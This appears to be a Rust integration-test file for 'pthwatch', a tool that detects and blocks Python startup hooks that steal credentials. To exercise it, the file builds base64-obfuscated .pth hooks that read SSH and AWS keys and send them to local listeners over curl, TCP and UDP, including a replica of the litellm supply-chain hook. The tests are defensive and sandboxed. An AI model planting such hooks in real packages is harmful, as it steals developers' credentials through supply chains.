@@ -1,0 +1,537 @@
+//! Detection and response, against the real kernel: `pthwatch run` in each mode while real
+//! interpreters run real startup hooks in an isolated HOME holding fake credentials with a
+//! canary, and loopback listeners count what reaches them.
+//!
+//! Every payload is guarded: a hook acts only in the interpreter that did not inherit
+//! `PTHW_CHILD`, so no test can recurse into a fork bomb. Every wait is bounded.
+use std::{path::Path, time::Duration};
+
+use integration_tests::{
+    Daemon, PYTHON, Sandbox, TcpSink, UdpSink, base64, can_run, real, run_bounded, wait_until,
+};
+use serde_json::Value;
+
+const MODES: [&str; 3] = ["alert", "block", "kill"];
+
+/// Python that reads the sandbox's SSH key and AWS credentials into `blob` (bytes).
+const READ_CREDENTIALS: &str = r#"
+import os
+home = os.path.expanduser("~")
+blob = b""
+for rel in (".ssh/id_ed25519", ".aws/credentials"):
+    try:
+        with open(os.path.join(home, rel), "rb") as f:
+            blob += f.read()
+    except OSError:
+        pass
+"#;
+
+/// A `.pth` line that starts `sys.executable -c "exec(base64.b64decode(...))"` the way the
+/// litellm 1.82.8 hook did, once (the child inherits the guard).
+fn spawning_pth_line(child_code: &str) -> String {
+    format!(
+        "import os, sys, subprocess, base64; os.environ.get('PTHW_CHILD') or subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"{}\"))'], env=dict(os.environ, PTHW_CHILD='1'), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
+        base64(child_code.as_bytes())
+    )
+}
+
+/// The end marker a payload writes (its last step, with what its sender returned).
+fn marker(sb: &Sandbox) -> std::path::PathBuf {
+    sb.home.join("payload.done")
+}
+
+/// What a payload wrote to its marker, waiting up to `limit` for it.
+fn wait_marker(sb: &Sandbox, limit: Duration) -> Option<String> {
+    let path = marker(sb);
+    wait_until(limit, || path.exists());
+    std::fs::read_to_string(path).ok()
+}
+
+/// Executable hooks the host already had before the test, as `pthwatch scan --json`
+/// reports them (e.g. a CA injector installed by the machine's provisioning). Each may
+/// raise its one `unknown_startup_hook` report; that is not about the test.
+fn preexisting_suspect_hooks() -> Vec<String> {
+    let out = std::process::Command::new(integration_tests::pthwatch_bin())
+        .args(["scan", "--json"])
+        .output()
+        .expect("run pthwatch scan");
+    let report: Value = serde_json::from_slice(&out.stdout).expect("scan --json prints JSON");
+    report["hooks"]
+        .as_array()
+        .expect("hooks")
+        .iter()
+        .filter(|h| h["class"] != "benign" && h["class"] != "inert")
+        .filter_map(|h| h["path"].as_str().map(str::to_owned))
+        .collect()
+}
+
+/// Alerts other than the host's own pre-existing hooks reporting themselves.
+fn relevant<'a>(alerts: &'a [Value], host_hooks: &[String]) -> Vec<&'a Value> {
+    alerts
+        .iter()
+        .filter(|a| {
+            let hook_path = a["startup_hook"]["path"].as_str().unwrap_or("");
+            !(a["rule"] == "unknown_startup_hook" && host_hooks.iter().any(|h| h == hook_path))
+        })
+        .collect()
+}
+
+fn strings(v: &Value) -> Vec<String> {
+    v.as_array()
+        .map(|a| {
+            a.iter()
+                .filter_map(|s| s.as_str().map(str::to_owned))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// Checks what the rule-1 alert says: the hook, its line, the files read, where to.
+fn assert_exfil_alert(alert: &Value, sb: &Sandbox, pth: &Path, port: u16, action: &str) {
+    assert_eq!(alert["severity"], "critical", "{alert:#}");
+    assert_eq!(alert["action"], action, "{alert:#}");
+    let hook = &alert["startup_hook"];
+    assert_eq!(hook["kind"], "pth", "{alert:#}");
+    assert_eq!(
+        hook["path"].as_str(),
+        Some(&*real(pth).to_string_lossy()),
+        "{alert:#}"
+    );
+    assert_eq!(hook["sha256"].as_str().map(str::len), Some(64), "{alert:#}");
+    assert!(
+        hook["line"]
+            .as_str()
+            .is_some_and(|l| l.starts_with("import ")),
+        "the alert must quote the executable line: {alert:#}"
+    );
+    let creds = strings(&alert["credentials"]);
+    let home = real(&sb.home);
+    for rel in [".ssh/id_ed25519", ".aws/credentials"] {
+        let want = home.join(rel).to_string_lossy().into_owned();
+        assert!(creds.contains(&want), "{want} missing from {creds:?}");
+    }
+    let dest = &alert["destination"];
+    assert_eq!(dest["address"], "127.0.0.1", "{alert:#}");
+    assert_eq!(dest["port"], port, "{alert:#}");
+    assert!(!alert["host"].as_str().unwrap_or("").is_empty());
+    assert!(alert["process"]["pid"].as_u64().is_some_and(|p| p > 0));
+    assert!(
+        alert["lineage"].as_array().is_some_and(|l| !l.is_empty()),
+        "{alert:#}"
+    );
+}
+
+fn exfil_alert(daemon: &Daemon) -> Option<Value> {
+    daemon.wait_alert(Duration::from_secs(10), |a| {
+        a["rule"] == "hook_credential_exfiltration"
+    })
+}
+
+/// The litellm chain: `.pth` -> `python -c exec(b64)` -> reads keys -> `curl` POST.
+fn litellm_replica(mode: &str) {
+    let sb = Sandbox::new(&format!("litellm-{mode}"));
+    let sink = TcpSink::start();
+    let child = format!(
+        "{READ_CREDENTIALS}
+import subprocess
+staged = os.path.join(home, 'tpcp.bin')
+with open(staged, 'wb') as f:
+    f.write(blob)
+r = subprocess.run(['curl', '-s', '-m', '10', '-X', 'POST', '--data-binary', '@' + staged,
+                    'http://127.0.0.1:{}/upload'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(str(r.returncode))
+",
+        sink.port
+    );
+    let pth = sb.pth("litellm_init.pth", &spawning_pth_line(&child));
+    let daemon = Daemon::start(mode, &[]);
+    let (code, out) = sb.python(&["-c", "print('main program ran')"]);
+    assert_eq!(code, 0, "the user's program itself must run: {out}");
+    assert!(out.contains("main program ran"));
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    let alert = exfil_alert(&daemon);
+    let alerts = daemon.stop();
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    match mode {
+        "alert" => {
+            assert!(
+                sink.received().contains(&sb.canary),
+                "alert mode does not interfere; the listener got: {:?}",
+                sink.received()
+            );
+            assert_exfil_alert(&alert, &sb, &pth, sink.port, "alert");
+        }
+        "block" => {
+            assert_eq!(sink.bytes(), 0, "blocked, yet the listener got bytes");
+            assert_ne!(done.as_deref(), Some("0"), "curl must fail when denied");
+            assert_exfil_alert(&alert, &sb, &pth, sink.port, "blocked");
+        }
+        _ => {
+            assert_eq!(sink.bytes(), 0, "killed, yet the listener got bytes");
+            assert_ne!(done.as_deref(), Some("0"), "curl must not complete");
+            assert_exfil_alert(&alert, &sb, &pth, sink.port, "killed");
+        }
+    }
+    assert!(!sink.received().contains(&sb.canary) || mode == "alert");
+}
+
+#[test]
+fn litellm_replica_alert_mode_reports_and_lets_it_through() {
+    if can_run() {
+        litellm_replica("alert");
+    }
+}
+
+#[test]
+fn litellm_replica_block_mode_denies_the_upload() {
+    if can_run() {
+        litellm_replica("block");
+    }
+}
+
+#[test]
+fn litellm_replica_kill_mode_kills_before_a_byte_leaves() {
+    if can_run() {
+        litellm_replica("kill");
+    }
+}
+
+/// The hook does everything itself, in the interpreter, with no child; the main program
+/// that follows reads the same credentials and connects, and must not be blamed.
+#[test]
+fn in_process_hook_is_blocked_and_the_main_program_is_not_blamed() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("inproc");
+    let evil = TcpSink::start();
+    let legit = TcpSink::start();
+    let code = format!(
+        "{READ_CREDENTIALS}
+import socket
+s = socket.create_connection(('127.0.0.1', {}), timeout=5)
+s.sendall(blob)
+s.close()
+",
+        evil.port
+    );
+    let pth = sb.pth(
+        "zz_telemetry.pth",
+        &format!(
+            "import os, base64; os.environ.get('PTHW_CHILD') or exec(base64.b64decode('{}'))\n",
+            base64(code.as_bytes())
+        ),
+    );
+    let main = format!(
+        "{READ_CREDENTIALS}
+import socket
+s = socket.create_connection(('127.0.0.1', {}), timeout=5)
+s.sendall(blob)
+s.close()
+print('main sent', len(blob))
+",
+        legit.port
+    );
+    let daemon = Daemon::start("block", &[]);
+    let (status, out) = sb.python(&["-c", &main]);
+    let alert = exfil_alert(&daemon);
+    let alerts = daemon.stop();
+    assert_eq!(status, 0, "the main program must run to the end: {out}");
+    assert_eq!(evil.bytes(), 0, "the hook's upload got through");
+    assert!(
+        wait_until(Duration::from_secs(5), || legit
+            .received()
+            .contains(&sb.canary)),
+        "the main program's own upload must not be blocked: {out}"
+    );
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    assert_exfil_alert(&alert, &sb, &pth, evil.port, "blocked");
+    let about_main: Vec<_> = alerts
+        .iter()
+        .filter(|a| a["destination"]["port"] == legit.port)
+        .collect();
+    assert!(
+        about_main.is_empty(),
+        "the main program was blamed: {about_main:#?}"
+    );
+}
+
+/// UDP with no connect: `sendto` straight to the listener.
+#[test]
+fn udp_sendto_without_connect_is_blocked() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("udp");
+    let sink = UdpSink::start();
+    let child = format!(
+        "{READ_CREDENTIALS}
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    s.sendto(blob, ('127.0.0.1', {}))
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+",
+        sink.port
+    );
+    let pth = sb.pth("dns_helper.pth", &spawning_pth_line(&child));
+    let daemon = Daemon::start("block", &[]);
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    let alert = exfil_alert(&daemon);
+    let alerts = daemon.stop();
+    assert_eq!(
+        done.as_deref(),
+        Some("error 1"),
+        "sendto must fail with EPERM"
+    );
+    assert_eq!(sink.bytes(), 0, "a datagram got through");
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    assert_exfil_alert(&alert, &sb, &pth, sink.port, "blocked");
+    assert_eq!(alert["destination"]["protocol"], "udp", "{alert:#}");
+}
+
+/// Connect while still clean, read the credentials, then send on the socket already held:
+/// the connect was allowed, so the packets must be dropped on the way out.
+#[test]
+fn a_socket_connected_before_the_read_carries_nothing_out() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("connfirst");
+    let sink = TcpSink::start();
+    let child = format!(
+        "import socket, os
+s = socket.create_connection(('127.0.0.1', {}), timeout=5)
+{READ_CREDENTIALS}
+try:
+    s.sendall(blob)
+    s.shutdown(socket.SHUT_WR)
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+",
+        sink.port
+    );
+    let pth = sb.pth("metrics_boot.pth", &spawning_pth_line(&child));
+    let daemon = Daemon::start("block", &[]);
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    assert!(done.is_some(), "the payload did not finish");
+    let alert = exfil_alert(&daemon);
+    // Give TCP time to retransmit what was dropped; none of it may arrive.
+    std::thread::sleep(Duration::from_secs(2));
+    let alerts = daemon.stop();
+    assert!(
+        !sink.received().contains(&sb.canary),
+        "the held socket carried the credentials out"
+    );
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    assert_eq!(alert["action"], "blocked", "{alert:#}");
+    assert_eq!(
+        alert["startup_hook"]["path"].as_str(),
+        Some(&*real(&pth).to_string_lossy())
+    );
+}
+
+// ---- benign twins: legitimate tools that look alike must raise nothing, in every mode ----
+
+/// Runs `check` against a fresh daemon in each mode; no alert about the sandbox may appear.
+fn in_every_mode(mut check: impl FnMut(&str)) {
+    let host_hooks = preexisting_suspect_hooks();
+    for mode in MODES {
+        let daemon = Daemon::start(mode, &[]);
+        check(mode);
+        // Rule 2 waits for a quiet lineage before it reports; give it the time.
+        std::thread::sleep(Duration::from_millis(3500));
+        let alerts = daemon.stop();
+        let mine = relevant(&alerts, &host_hooks);
+        assert!(mine.is_empty(), "mode {mode}: false alarm(s): {mine:#?}");
+    }
+}
+
+/// Python that reads `~/.aws/credentials` and POSTs it with urllib, as the AWS CLI would.
+fn aws_cli_like(port: u16) -> String {
+    format!(
+        "import os, urllib.request
+with open(os.path.expanduser('~/.aws/credentials'), 'rb') as f:
+    body = f.read()
+req = urllib.request.Request('http://127.0.0.1:{port}/sts', data=body, method='POST')
+with urllib.request.urlopen(req, timeout=10) as r:
+    print('status', r.status)
+"
+    )
+}
+
+#[test]
+fn venv_with_setuptools_virtualenv_and_editable_hooks_raises_nothing() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("venv");
+    let venv = sb.root.join("venv");
+    let (code, out) = run_bounded(
+        sb.command(PYTHON)
+            .args(["-m", "venv", "--without-pip"])
+            .arg(&venv),
+        Duration::from_secs(60),
+    );
+    assert_eq!(code, 0, "creating the venv: {out}");
+    let site = venv.join("lib/python3.11/site-packages");
+    let put = |rel: &str, content: &str| {
+        let p = site.join(rel);
+        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+        std::fs::write(p, content).expect("write");
+    };
+    // setuptools' hook, exactly as setuptools writes it, and the module it imports.
+    put(
+        "distutils-precedence.pth",
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+    );
+    put("_distutils_hack/__init__.py", "def add_shim():\n    pass\n");
+    put(
+        "setuptools-69.0.0.dist-info/METADATA",
+        "Metadata-Version: 2.1\nName: setuptools\nVersion: 69.0.0\n",
+    );
+    put(
+        "setuptools-69.0.0.dist-info/RECORD",
+        "distutils-precedence.pth,,\n_distutils_hack/__init__.py,,\nsetuptools-69.0.0.dist-info/METADATA,,\nsetuptools-69.0.0.dist-info/RECORD,,\n",
+    );
+    // virtualenv's hook.
+    put("_virtualenv.pth", "import _virtualenv\n");
+    put(
+        "_virtualenv.py",
+        "\"\"\"Patches distutils for virtualenv.\"\"\"\nimport sys\n",
+    );
+    // An editable install of the tool itself (`pip install -e .`).
+    put(
+        "__editable___awstool_1_0_finder.pth",
+        "import __editable___awstool_1_0_finder; __editable___awstool_1_0_finder.install()\n",
+    );
+    put(
+        "__editable___awstool_1_0_finder.py",
+        "import sys\nMAPPING = {}\ndef install():\n    pass\n",
+    );
+    put(
+        "awstool-1.0.dist-info/METADATA",
+        "Metadata-Version: 2.1\nName: awstool\nVersion: 1.0\n",
+    );
+    put(
+        "awstool-1.0.dist-info/direct_url.json",
+        r#"{"url": "file:///src/awstool", "dir_info": {"editable": true}}"#,
+    );
+    put(
+        "awstool-1.0.dist-info/RECORD",
+        "__editable___awstool_1_0_finder.pth,,\n__editable___awstool_1_0_finder.py,,\nawstool-1.0.dist-info/METADATA,,\nawstool-1.0.dist-info/direct_url.json,,\nawstool-1.0.dist-info/RECORD,,\n",
+    );
+    let python = venv.join("bin/python");
+    in_every_mode(|mode| {
+        let sink = TcpSink::start();
+        let (code, out) = run_bounded(
+            sb.command(&python).args(["-c", &aws_cli_like(sink.port)]),
+            Duration::from_secs(60),
+        );
+        assert_eq!(code, 0, "mode {mode}: the tool failed: {out}");
+        assert!(out.contains("status 200"), "mode {mode}: {out}");
+        assert!(
+            wait_until(Duration::from_secs(5), || sink
+                .received()
+                .contains(&sb.canary)),
+            "mode {mode}: the tool's request did not arrive"
+        );
+    });
+}
+
+#[test]
+fn coverage_style_hook_with_python_children_raises_nothing() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("coverage");
+    // coverage's own subprocess hook, byte for byte, and a stand-in for the package.
+    sb.pth(
+        "a1_coverage.pth",
+        "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug=\"pth\")')\n",
+    );
+    sb.write(
+        ".local/lib/python3.11/site-packages/coverage/__init__.py",
+        "import os\ndef process_startup(slug=None):\n    open(os.environ['COVERAGE_PROCESS_START']).close()\n",
+    );
+    let rc = sb.write(".coveragerc", "[run]\nparallel = True\n");
+    in_every_mode(|mode| {
+        let sink = TcpSink::start();
+        // A test suite: the main program starts `sys.executable -c` children, each of which
+        // runs the coverage hook, reads credentials and talks to a local test server.
+        let suite = format!(
+            "import subprocess, sys
+child = {:?}
+for _ in range(3):
+    subprocess.run([sys.executable, '-c', child], check=True, timeout=30)
+print('suite passed')
+",
+            aws_cli_like(sink.port)
+        );
+        let (code, out) = run_bounded(
+            sb.command(PYTHON)
+                .env("COVERAGE_PROCESS_START", &rc)
+                .args(["-c", &suite]),
+            Duration::from_secs(90),
+        );
+        assert_eq!(code, 0, "mode {mode}: {out}");
+        assert!(out.contains("suite passed"), "mode {mode}: {out}");
+        assert_eq!(
+            sink.received().matches(&sb.canary).count(),
+            3,
+            "mode {mode}: every child's request must arrive"
+        );
+    });
+}
+
+#[test]
+fn twine_like_upload_of_pypirc_token_raises_nothing() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("twine");
+    // A path-only .pth, as most packages ship.
+    sb.pth(
+        "vendored.pth",
+        &format!("{}\n", sb.home.join("vendor").display()),
+    );
+    let dist = sb.write("dist/pkg-1.0.tar.gz", "not really a tarball\n");
+    in_every_mode(|mode| {
+        let sink = TcpSink::start();
+        let upload = format!(
+            "import configparser, os, socket
+cfg = configparser.ConfigParser()
+cfg.read(os.path.expanduser('~/.pypirc'))
+token = cfg['pypi']['password']
+with open({dist:?}, 'rb') as f:
+    body = f.read()
+s = socket.create_connection(('127.0.0.1', {port}), timeout=10)
+s.sendall(b'POST /legacy/ HTTP/1.1\\r\\nAuthorization: ' + token.encode() + b'\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)
+print(s.recv(100).split(b' ')[1].decode())
+",
+            dist = dist.display().to_string(),
+            port = sink.port
+        );
+        let (code, out) = sb.python(&["-c", &upload]);
+        assert_eq!(code, 0, "mode {mode}: {out}");
+        assert!(out.contains("200"), "mode {mode}: {out}");
+        assert!(
+            wait_until(Duration::from_secs(5), || sink
+                .received()
+                .contains(&sb.canary)),
+            "mode {mode}: the upload did not arrive"
+        );
+    });
+}
